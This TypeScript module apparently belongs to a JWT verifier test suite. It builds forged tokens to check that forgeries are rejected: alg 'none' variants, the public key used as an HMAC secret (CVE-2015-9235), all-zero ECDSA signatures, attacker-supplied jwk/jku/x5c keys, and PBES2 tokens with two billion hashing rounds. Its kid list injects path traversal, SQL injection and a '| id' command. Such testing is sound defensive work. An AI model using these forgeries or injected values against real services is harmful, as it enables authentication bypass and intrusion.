import { createHmac, type KeyObject } from 'node:crypto';
import { type ForgedToken, type Forgery, type ForgeryMaterial, named, segment } from './forged-token.js';
import { generateSigningKey, signatureOf } from './signing-key.js';

/** Forges tokens whose signature proves nothing: RFC 8725 §2.1, §3.1, §3.10, RFC 7515. */
export async function forgedSignatures(material: ForgeryMaterial): Promise<ForgedToken[]> {
  const { alg } = material.header;
  const { attacker } = material;
  const { certificate, key: certifiedKey } = attacker.certified;
  const otherKind = await generateSigningKey(alg.startsWith('ES') ? 'RS256' : 'ES256', material.header.kid);
  return [
    ...named('S1', withoutAlgorithm(material)),
    ...named('S2', signedWithThePublicKey(material)),
    ...named('S4', [
      [`signed with another kind of key, ${otherKind.algorithm}`, signedBy(otherKind, {}, material)],
      [
        `another kind of signature, declared as ${alg}`,
        withSignature({}, material, (input) => signatureOf(input, otherKind.algorithm, otherKind.privateKey)),
      ],
    ]),
    ...named('S5', otherAlgorithms(material)),
    ...named('S6', degenerateSignatures(material)),
    ...named('S8', [
      ['signed with another key of the same kid', signedBy(attacker.key, {}, material)],
      ...damagedSignatures(material),
    ]),
    ...named('S9', [
      ['brings its own key in jwk', signedBy(attacker.key, { jwk: attacker.key.publicJwk }, material)],
      [
        'brings its own key and no kid',
        signedBy(attacker.key, { jwk: attacker.key.publicJwk, kid: undefined }, material),
      ],
    ]),
    ...named('S10', [
      ['names its own key set in jku', signedBy(attacker.key, { jku: attacker.jwksUri }, material)],
      ['names its own certificate in x5u', signedBy(certifiedKey, { x5u: attacker.certificateUri }, material)],
      ['brings its own certificate in x5c', signedBy(certifiedKey, { x5c: [certificate] }, material)],
    ]),
    ...named('S11', oddKeyNames(material)),
    ...named('S12', criticalExtensions(material)),
    ...named('S16', encryptedTokens(material)),
    ...named('S17', jsonSerializations(material)),
  ];
}

function withoutAlgorithm({ header, claims, token }: ForgeryMaterial): Forgery[] {
  const signature = token.slice(token.lastIndexOf('.') + 1);
  const algorithms = ['none', 'None', 'nOnE', 'NONE', '', null, 1, ['none'], undefined];
  return [
    ...algorithms.flatMap((alg): Forgery[] => {
      const input = `${segment({ ...header, alg })}.${segment(claims)}`;
      const name = `alg ${JSON.stringify(alg) ?? 'missing'}`;
      return [
        [`${name}, no signature`, `${input}.`],
        [`${name}, the signature of the accepted token`, `${input}.${signature}`],
      ];
    }),
    ['two segments', token.slice(0, token.lastIndexOf('.'))],
  ];
}

/** The public key as a shared secret: CVE-2015-9235 and similar ones. */
function signedWithThePublicKey({ issuer, header, claims }: ForgeryMaterial): Forgery[] {
  const { publicKey, publicJwk, algorithm } = issuer.signingKey;
  return publicKeyTexts(publicKey, algorithm, publicJwk).flatMap(([name, secret]) =>
    (['HS256', 'HS384', 'HS512'] as const).map((alg): Forgery => {
      const input = `${segment({ ...header, alg })}.${segment(claims)}`;
      const signature = createHmac(`sha${alg.slice(2)}`, secret)
        .update(input)
        .digest('base64url');
      return [`${alg} with the public key as ${name}`, `${input}.${signature}`];
    }),
  );
}

function publicKeyTexts(
  key: KeyObject,
  algorithm: string,
  jwk: Readonly<Record<string, unknown>>,
): (readonly [string, string | Buffer])[] {
  const pem = key.export({ format: 'pem', type: 'spki' }) as string;
  return [
    ['PEM', pem],
    ['PEM without its last line break', pem.trimEnd()],
    ['PEM behind a byte order mark', `\uFEFF${pem}`],
    ['DER', key.export({ format: 'der', type: 'spki' })],
    ['JWK', JSON.stringify(jwk)],
    ['nothing', ''],
    ...(/^[RP]S/.test(algorithm)
      ? ([
          ['PKCS#1', key.export({ format: 'pem', type: 'pkcs1' }) as string],
          ['modulus', Buffer.from(String(jwk.n), 'base64url')],
        ] as const)
      : []),
  ];
}

function otherAlgorithms({ issuer, header, claims }: ForgeryMaterial): Forgery[] {
  const { algorithm, privateKey } = issuer.signingKey;
  if (!/^[RP]S/.test(algorithm)) return [];
  return ['RS256', 'RS384', 'RS512', 'PS256', 'PS384', 'PS512']
    .filter((alg) => alg !== algorithm)
    .map((alg): Forgery => {
      const input = `${segment({ ...header, alg })}.${segment(claims)}`;
      const signature = signatureOf(input, alg, privateKey).toString('base64url');
      return [`the right key with ${alg}, which is not its algorithm`, `${input}.${signature}`];
    });
}

/** CVE-2022-21449 and similar ones. */
function degenerateSignatures({ issuer, header, claims }: ForgeryMaterial): Forgery[] {
  const length = signatureOf('', issuer.signingKey.algorithm, issuer.signingKey.privateKey).length;
  const input = `${segment(header)}.${segment(claims)}`;
  return [
    ['a signature of zeros', `${input}.${Buffer.alloc(length).toString('base64url')}`],
    ['a signature of ones', `${input}.${Buffer.alloc(length, 0xff).toString('base64url')}`],
    ['a signature of one byte', `${input}.AA`],
  ];
}

function damagedSignatures({ token, claims, header, issuer }: ForgeryMaterial): Forgery[] {
  const lastDot = token.lastIndexOf('.');
  const [head, signature] = [token.slice(0, lastDot + 1), token.slice(lastDot + 1)];
  const flipped = Buffer.from(signature, 'base64url');
  flipped[0] = (flipped[0] ?? 0) ^ 1;
  const ofAnother = issuer.signText(JSON.stringify(header), JSON.stringify({ ...claims, jti: 'another' }));
  return [
    ['no signature', head],
    ['half a signature', head + signature.slice(0, Math.floor(signature.length / 8) * 4)],
    ['one bit of the signature flipped', head + flipped.toString('base64url')],
    ['the signature of another token', head + ofAnother.slice(ofAnother.lastIndexOf('.') + 1)],
    [
      'a claim changed after signing',
      `${token.slice(0, token.indexOf('.'))}.${segment({ ...claims, admin: true })}.${signature}`,
    ],
  ];
}

function oddKeyNames({ issuer, claims, header }: ForgeryMaterial): Forgery[] {
  const names: unknown[] = [
    '../../../../dev/null',
    '/dev/null',
    "' OR '1'='1",
    '| id',
    'key\u0000',
    '',
    'k'.repeat(3000),
    7,
    { kid: header.kid },
    [header.kid],
    '__proto__',
    'constructor',
  ];
  return names.map((kid): Forgery => {
    const text = JSON.stringify(kid);
    const name = text.length > 40 ? `${text.slice(0, 10)}… of ${text.length} characters` : text;
    return [`kid ${name}`, issuer.signText(JSON.stringify({ ...header, kid }), JSON.stringify(claims))];
  });
}

/** RFC 7515 §4.1.11, RFC 7797: an unknown critical extension makes a token invalid. */
function criticalExtensions({ issuer, claims, header }: ForgeryMaterial): Forgery[] {
  const headers: [string, Record<string, unknown>][] = [
    ['an unknown one', { crit: ['x-new'], 'x-new': true }],
    ['an empty list', { crit: [] }],
    ['no list', { crit: 'x-new', 'x-new': true }],
    ['one twice', { crit: ['x-new', 'x-new'], 'x-new': true }],
    ['one of the standard itself', { crit: ['alg'] }],
    ['one that is absent', { crit: ['x-new'] }],
    ['b64', { crit: ['b64'], b64: false }],
  ];
  return [
    ...headers.map(([name, extra]): Forgery => [
      `critical extensions: ${name}`,
      issuer.signText(JSON.stringify({ ...header, ...extra }), JSON.stringify(claims)),
    ]),
    [
      'an unencoded payload that is not marked as critical',
      issuer.signText(JSON.stringify({ ...header, b64: false }), JSON.stringify(claims)),
    ],
  ];
}

/** Encrypted tokens, whose decryption may be expensive: CVE-2022-36083, CVE-2024-28176. */
function encryptedTokens({ header, claims }: ForgeryMaterial): Forgery[] {
  const parts = (jose: object) => [segment(jose), 'AAAA', 'AAAA', segment(claims), 'AAAA'].join('.');
  return [
    ['encrypted', parts({ ...header, alg: 'RSA-OAEP', enc: 'A256GCM' })],
    [
      'encrypted, two billion rounds of hashing',
      parts({ alg: 'PBES2-HS256+A128KW', enc: 'A128GCM', p2c: 2 ** 31 - 1, p2s: 'AAAA' }),
    ],
    ['encrypted and compressed', parts({ alg: 'dir', enc: 'A128GCM', zip: 'DEF' })],
  ];
}

function jsonSerializations({ token }: ForgeryMaterial): Forgery[] {
  const [protectedHeader, payload, signature] = token.split('.');
  return [
    ['JSON instead of the compact form', JSON.stringify({ protected: protectedHeader, payload, signature })],
    [
      'JSON with a list of signatures',
      JSON.stringify({ payload, signatures: [{ protected: protectedHeader, signature }] }),
    ],
  ];
}

function signedBy(
  key: Awaited<ReturnType<typeof generateSigningKey>>,
  extra: Readonly<Record<string, unknown>>,
  material: ForgeryMaterial,
): string {
  return withSignature({ alg: key.algorithm, ...extra }, material, (input) =>
    signatureOf(input, key.algorithm, key.privateKey),
  );
}

function withSignature(
  extra: Readonly<Record<string, unknown>>,
  { header, claims }: ForgeryMaterial,
  signer: (input: string) => Buffer,
): string {
  const input = `${segment({ ...header, ...extra })}.${segment(claims)}`;
  return `${input}.${signer(input).toString('base64url')}`;
}
